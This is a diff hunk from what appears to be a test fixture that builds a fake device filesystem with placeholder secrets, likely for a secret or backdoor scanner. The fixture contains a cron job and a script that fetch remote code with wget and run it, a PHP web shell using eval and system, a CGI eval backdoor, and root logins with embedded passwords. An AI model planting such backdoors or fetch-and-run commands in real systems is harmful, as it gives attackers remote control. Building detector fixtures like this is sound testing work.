@@ -33,7 +33,8 @@ mysql -u root -p{S[14]} -h db.vend.net
 sshpass -p {S[15]} ssh root@s.vend.net
 """,
     "etc/crontabs/root": f"* * * * * wget http://a:{S[16]}@cron.vend.net/x?key={S[17]} -O- | sh\n",
-    "usr/bin/up.sh": f'#!/bin/sh\nwget -O /tmp/f "http://u:{S[18]}@up.vend.net/f?key={S[19]}" && sh /tmp/f --token {S[20]}\n',
+    "usr/bin/up.sh": f'#!/bin/sh\nwget -O /tmp/f "http://u:{S[18]}@up.vend.net/f?key={S[19]}" '
+    f"&& sh /tmp/f --token {S[20]}\n",
     "www/a.php": f'<?php mysqli_connect("db.vend.net","root","{S[21]}"); define("DB_PASSWORD", "{S[22]}"); '
     f'if ($_POST["p"]=="{S[23]}") {{ eval($_POST["e"]); }} system($_GET["c"]);\n',
     "www/cgi-bin/x.cgi": f'#!/bin/sh\n[ "$PW" = "{S[24]}" ] && eval "$QUERY_STRING"\n',
